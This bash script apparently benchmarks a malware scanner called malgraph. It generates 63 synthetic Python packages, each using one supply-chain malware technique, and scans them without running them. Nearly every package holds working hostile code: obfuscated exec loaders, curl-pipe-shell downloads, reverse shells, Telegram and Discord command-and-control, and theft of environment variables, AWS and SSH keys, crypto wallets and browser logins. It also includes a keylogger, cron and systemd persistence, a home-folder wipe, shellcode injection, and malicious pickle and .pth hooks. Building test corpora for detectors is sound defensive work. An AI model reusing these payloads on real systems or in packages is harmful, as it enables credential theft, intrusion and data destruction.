#!/usr/bin/env bash
# Generalisation probe: 63 small synthetic packages, each using one malware technique of
# recent campaigns (written from public reports, not taken from the corpus), scanned with
# default settings. Prints one line per technique: verdict, score, rules. The packages are
# written to a temporary folder and scanned as unpacked folders; nothing is run.
# Usage: bench/technique-probe.sh
set -euo pipefail
cd "$(dirname "$0")/.."
cargo build --release -q -p malgraph
bin=$PWD/target/release/malgraph
dir=$(mktemp -d)
trap 'rm -rf "$dir"' EXIT
cd "$dir"
mk() { # name; the package's __init__.py on stdin
  mkdir -p "$1-1.0/$1"
  printf 'from setuptools import setup\nsetup(name="%s", version="1.0", packages=["%s"])\n' "$1" "$1" > "$1-1.0/setup.py"
  cat > "$1-1.0/$1/__init__.py"
}
mk xorexec <<'EOF'
import base64
_k = b'k3y'
_d = base64.b64decode('AwAKBgwfXxwKHhwIV1c=')
def _x(d, k):
    return bytes(b ^ k[i % len(k)] for i, b in enumerate(d))
exec(_x(_d, _k))
EOF
mk fernetexec <<'EOF'
from cryptography.fernet import Fernet
key = b'ZmDfcTF7_60GrrY167zsiPd67pEvs0aGOv2oasOM1Pg='
token = b'gAAAAABkxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx=='
exec(Fernet(key).decrypt(token))
EOF
mk rawgh <<'EOF'
import urllib.request
exec(urllib.request.urlopen('https://raw.githubusercontent.com/someone/tools/main/p.py').read().decode())
EOF
mk tgenv <<'EOF'
import os, requests
TOKEN = '6123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw'
requests.post(f'https://api.telegram.org/bot{TOKEN}/sendMessage', data={'chat_id': '12345', 'text': str(dict(os.environ))})
EOF
mk dropexe <<'EOF'
import base64, os, subprocess, tempfile
data = base64.b64decode('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA==')
p = os.path.join(tempfile.gettempdir(), 'svc.exe')
with open(p, 'wb') as f:
    f.write(data)
subprocess.Popen([p], creationflags=0x00000008)
EOF
mk compilezlib <<'EOF'
import zlib, base64
code = compile(zlib.decompress(base64.b64decode('eJwrKMrMK9EwVNAEAA2fA0Q=')), '<string>', 'exec')
exec(code)
EOF
mk runpydl <<'EOF'
import runpy, tempfile, os, urllib.request
p = os.path.join(tempfile.gettempdir(), 'x.py')
urllib.request.urlretrieve('http://198.51.100.7/x.py', p)
runpy.run_path(p)
EOF
mk shellcode <<'EOF'
import ctypes, base64
sc = base64.b64decode('/EiD5PDozAAAAEFRQVBSUVZIMdJlSItSYEiLUhhIi1IgSItyUEgPt0pKTTHJSDHArDxhfAIsIEHByQ1BAcHi7VJBUUiLUiCLQjxIAdBm')
ptr = ctypes.windll.kernel32.VirtualAlloc(0, len(sc), 0x3000, 0x40)
ctypes.windll.kernel32.RtlMoveMemory(ptr, sc, len(sc))
h = ctypes.windll.kernel32.CreateThread(0, 0, ptr, 0, 0, 0)
ctypes.windll.kernel32.WaitForSingleObject(h, -1)
EOF
mk pyarmored <<'EOF'
# Pyarmor 8.5.2 (trial), 000000, 2024-03-01T00:00:00.000000
from .pyarmor_runtime_000000 import __pyarmor__
__pyarmor__(__name__, __file__, b'PY000000\x00\x03\x0b\x00\xa7\x0d\x0d\x0a\x80\x00\x01\x00\x08\x00\x00\x00\x04\x00\x00\x00\x40\x00\x00\x00\x01\x99\x00\x00\x12\x09\x04\x00\x4e\x96\x8f\xdc\x6c\x95\x12\x94')
EOF
mk envpost <<'EOF'
import os, json, urllib.request, socket, getpass
data = json.dumps({'h': socket.gethostname(), 'u': getpass.getuser(), 'aws': os.environ.get('AWS_SECRET_ACCESS_KEY'), 'gh': os.environ.get('GITHUB_TOKEN')}).encode()
urllib.request.urlopen(urllib.request.Request('https://collector.example-oast.fun/c', data=data))
EOF
mk dnsexfil <<'EOF'
import socket, os, binascii
h = binascii.hexlify(os.getlogin().encode()).decode()
socket.gethostbyname(h + '.x.oastify.com')
EOF
mk pycload <<'EOF'
import importlib.util, os
spec = importlib.util.spec_from_file_location('core', os.path.join(os.path.dirname(__file__), 'core.pyc'))
mod = importlib.util.module_from_spec(spec)
spec.loader.exec_module(mod)
EOF
# The loaded module ships only as bytecode: our own two-line payload, compiled (not run).
printf 'import os\nos.system("curl -s http://198.51.100.9/x | sh")\n' > core.py
python3 -c 'import py_compile; py_compile.compile("core.py", cfile="pycload-1.0/pycload/core.pyc", doraise=True)'
rm core.py
mk shippedtxt <<'EOF'
import os
exec(open(os.path.join(os.path.dirname(__file__), 'data.txt')).read())
EOF
printf 'import os\nos.system("curl http://198.51.100.9/x | sh")\n' > shippedtxt-1.0/shippedtxt/data.txt
mk certutil <<'EOF'
import os
os.system('certutil -urlcache -split -f http://198.51.100.9/u.exe %TEMP%\\u.exe && start %TEMP%\\u.exe')
EOF
mk mshta <<'EOF'
import subprocess
subprocess.Popen('mshta http://198.51.100.9/p.hta', shell=True)
EOF
mk cronpersist <<'EOF'
import os
os.system('(crontab -l; echo "*/5 * * * * curl -s http://198.51.100.9/c | bash") | crontab -')
EOF
mk sshsteal <<'EOF'
import os, requests
key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
requests.post('http://198.51.100.9/k', data={'k': key})
EOF
mk smtpexfil <<'EOF'
import smtplib, os, socket
s = smtplib.SMTP('smtp.gmail.com', 587)
s.starttls(); s.login('a@gmail.com', 'pw')
s.sendmail('a@gmail.com', 'b@gmail.com', str(dict(os.environ)) + socket.gethostname())
EOF
mk cliphijack <<'EOF'
import re, time, pyperclip, threading
BTC = '1BoatSLRHtKNngkdXEeobR76b53LETtpyT'
def loop():
    while True:
        c = pyperclip.paste()
        if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', c):
            pyperclip.copy(BTC)
        time.sleep(1)
threading.Thread(target=loop, daemon=True).start()
EOF
mk systemd <<'EOF'
import os
unit = "[Service]\nExecStart=/usr/bin/python3 /opt/.cache/agent.py\nRestart=always\n[Install]\nWantedBy=multi-user.target\n"
open('/etc/systemd/system/sys-update.service', 'w').write(unit)
os.system('systemctl enable --now sys-update.service')
EOF
mk revshellpy <<'EOF'
import socket, subprocess, os
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(('198.51.100.9', 4444))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
subprocess.call(['/bin/sh', '-i'])
EOF
mk discordc2 <<'EOF'
import subprocess, discord
from discord.ext import commands
bot = commands.Bot(command_prefix='!', intents=discord.Intents.all())
@bot.command()
async def run(ctx, *, cmd):
    out = subprocess.run(cmd, shell=True, capture_output=True, text=True)
    await ctx.send(out.stdout[:1900])
bot.run('MTA4NjQ1NjM0NTY3ODkwMTIzNA.GaBcDe.abcdefghijklmnopqrstuvwxyz0123456789AB')
EOF
mk telegramc2 <<'EOF'
import subprocess, telebot
bot = telebot.TeleBot('6123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw')
@bot.message_handler(commands=['cmd'])
def handle(m):
    bot.reply_to(m, subprocess.getoutput(m.text[5:]))
bot.infinity_polling()
EOF
mk dnstxt <<'EOF'
import base64, dns.resolver
ans = dns.resolver.resolve('cfg.example-c2.net', 'TXT')
exec(base64.b64decode(ans[0].strings[0]))
EOF
mk elfdrop <<'EOF'
import os, urllib.request
p = '/tmp/.cache-update'
data = urllib.request.urlopen('http://203.0.113.77/agent').read()
with open(p, 'wb') as f:
    f.write(data)
os.chmod(p, 0o755)
os.system(p + ' &')
EOF
mk gitclonerun <<'EOF'
import os, subprocess, tempfile
d = tempfile.mkdtemp()
subprocess.call(['git', 'clone', '-q', 'https://github.com/someone0x/helper', d])
subprocess.Popen(['python', os.path.join(d, 'main.py')])
EOF
mk pipurl <<'EOF'
import subprocess, sys
subprocess.check_call([sys.executable, '-m', 'pip', 'install', '--quiet', 'https://files.example-cdn.top/pkgs/helperlib-0.1.tar.gz'])
EOF
# 2024-2025 PyPI campaigns: cloud keys as boto3 resolved them (fabrice), a Solana keypair,
# a hooked wallet library sending the keys it is given, Hyperion- and bytes-list-style
# obfuscation, a hidden child interpreter, a VBScript dropper, a downloaded module imported.
mk awscreds <<'EOF'
import boto3, requests, threading
def _collect():
    s = boto3.Session()
    c = s.get_credentials()
    requests.post('http://89.44.9.227/aws', json={'k': c.access_key, 's': c.secret_key, 't': c.token})
threading.Thread(target=_collect).start()
EOF
mk solkey <<'EOF'
import os, json, urllib.request
def load_wallet():
    p = os.path.expanduser('~/.config/solana/id.json')
    key = json.load(open(p))
    urllib.request.urlopen('https://sol-rpc-mirror.top/k', data=json.dumps(key).encode())
    return key
load_wallet()
EOF
mk ethhook <<'EOF'
import requests
from eth_account import Account
_orig = Account.from_key
def _hooked(key, *a, **k):
    acct = _orig(key, *a, **k)
    requests.post('https://eth-stats.example-node.top/v1', json={'pk': key.hex() if hasattr(key, 'hex') else str(key), 'addr': acct.address})
    return acct
Account.from_key = _hooked
EOF
mk bytesobf <<'EOF'
_i = getattr(__import__(bytes([98,117,105,108,116,105,110,115]).decode()), bytes([101,120,101,99]).decode())
_i(bytes([105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41]).decode())
EOF
mk hiddenpy <<'EOF'
import subprocess, sys, base64
code = base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvYS5zaCB8IHNoIik=').decode()
subprocess.Popen([sys.executable, '-c', code], creationflags=0x08000000, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
EOF
mk vbsdrop <<'EOF'
import os, tempfile, urllib.request
if os.name == 'nt':
    p = os.path.join(tempfile.gettempdir(), 'upd.vbs')
    urllib.request.urlretrieve('http://89.44.9.227/w.vbs', p)
    os.startfile(p)
EOF
mk hyperion <<'EOF'
from builtins import *
__obfuscator__ = 'Hyperion'
_ = lambda __ : __import__('zlib').decompress(__[::-1])
exec((_)(b'\x9c\xcb\x00\x01\x02'))
EOF
mk dlimport <<'EOF'
import sys, os, tempfile, urllib.request
d = tempfile.mkdtemp()
urllib.request.urlretrieve('http://203.0.113.77/u.py', os.path.join(d, 'updater.py'))
sys.path.insert(0, d)
import updater
EOF
# Session 9: project .env files hunted and uploaded; a CLI's stored token sent; a
# keylogger that uploads; sabotage that erases the home folder (psslib-style, in a function);
# an executable shipped in the package and started hidden at import.
mk dotenvhunt <<'EOF'
import os, glob, requests
for p in glob.glob(os.path.expanduser('~/**/.env'), recursive=True):
    requests.post('https://api.example-metrics.com/u', files={'f': open(p, 'rb')})
EOF
mk ghtoken <<'EOF'
import subprocess, requests
t = subprocess.check_output(['gh', 'auth', 'token']).decode().strip()
requests.post('https://198.51.100.3/t', data=t)
EOF
mk keylog <<'EOF'
from pynput import keyboard
import requests
buf = []
def on_press(k):
    buf.append(str(k))
    if len(buf) > 100:
        requests.post('https://198.51.100.3/k', data=''.join(buf)); buf.clear()
keyboard.Listener(on_press=on_press).start()
EOF
mk homewipe <<'EOF'
import os, shutil
def verify(password):
    if password != 'expected':
        shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)
    return True
EOF
mk shipexe <<'EOF'
import os, subprocess
subprocess.Popen([os.path.join(os.path.dirname(__file__), 'updater.exe')], creationflags=0x08000000)
EOF
printf 'MZ synthetic stand-in for a shipped executable\n' > shipexe-1.0/shipexe/updater.exe
# Techniques of later campaigns, beyond a package's own `__init__.py`: an in-tree build
# backend, .pth and sitecustomize start-up hooks, code in tests/ that setup.py calls,
# encodings, a stego loader, pickled models. Written by a Python generator (encoded payloads).
python3 - <<'PYEOF'
import base64, codecs, lzma, marshal, os, zlib
pay = 'import os\nos.system("curl -s http://203.0.113.5/a.sh | sh")\n'
b64 = base64.b64encode(pay.encode()).decode()
def w(p, s):
    os.makedirs(os.path.dirname(p), exist_ok=True)
    open(p, 'w').write(s)
def mk(name, init, setup=None):
    w(f'{name}-1.0/setup.py', setup or f'from setuptools import setup\nsetup(name="{name}", version="1.0", packages=["{name}"])\n')
    w(f'{name}-1.0/{name}/__init__.py', init)
w('inbackend-1.0/pyproject.toml', '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n\n[project]\nname = "inbackend"\nversion = "1.0"\n')
w('inbackend-1.0/_build/backend.py', 'import os, socket, getpass, urllib.request, json\nfrom setuptools import build_meta as _orig\n\ndef _beacon():\n    d = json.dumps({"h": socket.gethostname(), "u": getpass.getuser(), "cwd": os.getcwd()}).encode()\n    urllib.request.urlopen("http://203.0.113.5/b", data=d)\n\n_beacon()\nbuild_wheel = _orig.build_wheel\nbuild_sdist = _orig.build_sdist\n')
w('inbackend-1.0/inbackend/__init__.py', '')
w('pthfile-1.0/pthfile/__init__.py', '')
w('pthfile-1.0/pthfile-init.pth', "import os,base64;exec(base64.b64decode('%s'))\n" % b64)
w('pthfile-1.0/setup.py', 'from setuptools import setup\nsetup(name="pthfile", version="1.0", packages=["pthfile"], data_files=[("", ["pthfile-init.pth"])])\n')
mk('spacehide', 'VERSION = "1.0"' + ' ' * 400 + ';import base64;exec(base64.b64decode("%s"))\n' % b64)
mk('stego', 'import requests\nfrom PIL import Image\nimg = Image.open(requests.get("https://i.imgur.com/abc123.png", stream=True).raw)\ncode = "".join(chr(p[0]) for p in img.getdata() if p[0])\nexec(code)\n')
enc = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/p.ps1')".encode('utf-16le')).decode()
mk('psenc', 'import subprocess\nsubprocess.Popen("powershell -w hidden -nop -enc %s", shell=True)\n' % enc)
mk('hexexec', 'exec(bytes.fromhex("%s").decode())\n' % pay.encode().hex())
mk('rot13exec', 'import codecs\nexec(codecs.decode(%r, "rot13"))\n' % codecs.encode(pay, 'rot13'))
blob = base64.b85encode(lzma.compress(marshal.dumps(compile(pay, '<x>', 'exec')))).decode()
mk('lzmamarshal', 'import marshal, lzma, base64\nexec(marshal.loads(lzma.decompress(base64.b85decode(%r))))\n' % blob)
w('testsimport-1.0/setup.py', 'from setuptools import setup\nfrom tests import helper\nhelper.check()\nsetup(name="testsimport", version="1.0", packages=["testsimport"])\n')
w('testsimport-1.0/testsimport/__init__.py', '')
w('testsimport-1.0/tests/__init__.py', '')
w('testsimport-1.0/tests/helper.py', 'import os, requests\ndef check():\n    requests.post("https://203.0.113.5/e", json=dict(os.environ))\n')
mk('antivm', 'import os, uuid, urllib.request, tempfile, subprocess\nmac = ":".join("%%02x" %% ((uuid.getnode() >> i) & 0xff) for i in range(40, -1, -8))\nif mac.startswith(("08:00:27", "00:0c:29", "00:50:56")):\n    raise SystemExit\np = os.path.join(tempfile.gettempdir(), "upd.exe")\nurllib.request.urlretrieve("http://203.0.113.5/upd.exe", p)\nsubprocess.Popen(p)\n')
mk('resblob', 'import pkgutil, zlib\nexec(zlib.decompress(pkgutil.get_data(__name__, "data/blob.bin")))\n')
os.makedirs('resblob-1.0/resblob/data', exist_ok=True)
open('resblob-1.0/resblob/data/blob.bin', 'wb').write(zlib.compress(pay.encode()))
w('sitecust-1.0/setup.py', 'from setuptools import setup\nsetup(name="sitecust", version="1.0", py_modules=["sitecustomize"])\n')
w('sitecust-1.0/sitecustomize.py', 'import os, threading, urllib.request\ndef _r():\n    exec(urllib.request.urlopen("http://203.0.113.5/s.py").read())\nthreading.Thread(target=_r, daemon=True).start()\n')
w('pthwrite-1.0/setup.py', 'import site, os\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        install.run(self)\n        p = os.path.join(site.getsitepackages()[0], "_sys_update.pth")\n        open(p, "w").write("import os;os.system(\'curl -s http://203.0.113.5/a | sh\')\\n")\nsetup(name="pthwrite", version="1.0", cmdclass={"install": I})\n')
mk('getattrobf', 'getattr(__import__("o" + "s"), "sys" + "tem")("curl -s http://203.0.113.5/a | sh")\n')
mk('asyncshell', 'import asyncio\nasync def _m():\n    p = await asyncio.create_subprocess_shell("curl -s http://203.0.113.5/a | bash")\n    await p.wait()\nasyncio.run(_m())\n')
mk('ptyshell', 'import socket, os, pty\ns = socket.socket()\ns.connect(("203.0.113.5", 9001))\n[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\npty.spawn("/bin/bash")\n')
mk('chrlist', 'exec("".join(chr(c) for c in %r))\n' % [ord(c) for c in pay])
w('cmdclassdl-1.0/setup.py', 'import os, urllib.request, tempfile\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n        p = os.path.join(tempfile.gettempdir(), "helper.exe")\n        urllib.request.urlretrieve("https://cdn.discordapp.com/attachments/1/2/helper.exe", p)\n        os.startfile(p)\nsetup(name="cmdclassdl", version="1.0", cmdclass={"install": PostInstall})\n')
z = base64.b64encode(zlib.compress(pay.encode())).decode()
mk('lambdaobf', '_ = lambda __ : __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]));exec((_)(%r))\n' % z[::-1])
mk('loginsteal', 'import os, shutil, requests\np = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")\nshutil.copy(p, os.path.join(os.environ["TEMP"], "ld"))\nrequests.post("https://discord.com/api/webhooks/123/abc", files={"f": open(os.path.join(os.environ["TEMP"], "ld"), "rb")})\n')
# A typosquat that wraps the real API and sends the environment when it is called.
mk('wrapexfil', 'import os, requests as _r\n\ndef get(url, **kw):\n    try:\n        _r.post("https://203.0.113.5/c", json=dict(os.environ), timeout=3)\n    except Exception:\n        pass\n    return _r.get(url, **kw)\n')
# A model file (zip-format .pt, as torch.save writes) and a data file that are pickles
# calling exec / os.system when loaded; the package loads them at import. Pickled here
# by reference (__reduce__), never loaded.
import io, pickle, zipfile
class X:
    def __reduce__(self): return (exec, (pay,))
class C:
    def __reduce__(self): return (os.system, ('curl -s http://203.0.113.5/a.sh | sh',))
mk('pklmodel', 'import os, torch\nmodel = torch.load(os.path.join(os.path.dirname(__file__), "model.pt"), weights_only=False)\n')
b = io.BytesIO()
with zipfile.ZipFile(b, 'w') as z:
    z.writestr('archive/data.pkl', pickle.dumps({'w': X()}, protocol=2))
    z.writestr('archive/version', '3\n')
open('pklmodel-1.0/pklmodel/model.pt', 'wb').write(b.getvalue())
mk('pklraw', 'import pickle, os\ncfg = pickle.load(open(os.path.join(os.path.dirname(__file__), "cfg.bin"), "rb"))\n')
open('pklraw-1.0/pklraw/cfg.bin', 'wb').write(pickle.dumps([1, C()], protocol=4))
PYEOF
for d in */; do
  "$bin" scan --format json --fail-on suspicious "$d" 2>/dev/null | python3 -c '
import json, sys
d = json.loads(sys.stdin.readline())
print("%-14s %-10s %6.2f %s" % (sys.argv[1].rstrip("/"), d["verdict"], d["score"], " ".join(sorted({f["rule"] for f in d["findings"]}))))' "$d" || true
done
